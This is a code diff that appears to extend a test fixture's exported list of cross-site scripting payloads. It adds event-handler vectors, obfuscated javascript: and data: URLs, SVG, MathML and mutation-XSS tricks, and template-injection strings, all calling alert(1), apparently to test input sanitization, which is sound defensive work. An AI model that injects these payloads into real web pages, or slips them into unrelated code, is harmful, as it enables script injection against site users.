@@ -1,3 +1,58 @@
+/** Every handler that a browser calls by itself, or as soon as somebody moves, on the element that has it. */
+const handled = [
+  ['audio src=x', 'onerror'],
+  ['video src=x', 'onerror'],
+  ['video poster=x autoplay', 'onloadstart'],
+  ['object data=x', 'onerror'],
+  ['embed src=x', 'onload'],
+  ['link rel=stylesheet href=x', 'onerror'],
+  ['style', 'onload'],
+  ['marquee', 'onstart'],
+  ['select autofocus', 'onfocus'],
+  ['textarea autofocus', 'onfocus'],
+  ['button autofocus', 'onfocus'],
+  ['a href=# autofocus', 'onfocusin'],
+  ['x tabindex=1 autofocus contenteditable', 'onfocus'],
+  ['div style=animation:x', 'onanimationstart'],
+  ['p style=transition:1s', 'ontransitionend'],
+  ['p draggable=true', 'ondragenter'],
+  ['p', 'onpointerenter'],
+  ['meter', 'onmouseover'],
+  ['body', 'onpageshow'],
+  ['frameset', 'onload'],
+  ['image src=x', 'onerror'],
+  ['img srcset=x', 'onerror'],
+  ['isindex type=image src=x', 'onerror'],
+  ['dialog open', 'onclose'],
+] as const;
+const addresses = [
+  'javascript:alert(1)//https://ok.example',
+  '\u0001javascript:alert(1)',
+  'java\nscript:alert(1)',
+  'JAVASCRIPT:alert(1)',
+  '&#x6A;avascript:alert(1)',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+] as const;
+
+const further = [
+  ...handled.map(([element, handler]) => `<${element} ${handler}=alert(1)>`),
+  ...handled.slice(0, 6).map(([element, handler]) => `"><${element.toUpperCase()}/${handler}="alert(1)`),
+  ...addresses.flatMap((address) => [`<a href="${address}">x</a>`, `<${address}>`]),
+  '<form><button formaction="javascript:alert(1)">x</button></form>',
+  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
+  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
+  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
+  '<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>',
+  '<select><style><img src=x onerror=alert(1)></style></select>',
+  '<table><td background="javascript:alert(1)">x</table>',
+  '<script type="text/x-template">{{alert(1)}}</script><script>alert`1`</script>',
+  '\u0024{alert(1)}',
+  '#{alert(1)} <%= alert(1) %>',
+  '</textarea></select></style></template></noscript><script>alert(1)</script>',
+];
+
 /** What somebody could type to make a page do more than speak: as words, as Markdown, as an address. */
 export const payloads = [
   '<script>alert(1)</script>',
@@ -61,4 +116,5 @@ export const payloads = [
   '{{alert(1)}}{{constructor.constructor("alert(1)")()}}',
   '__proto__',
   'constructor',
+  ...further,
 ];
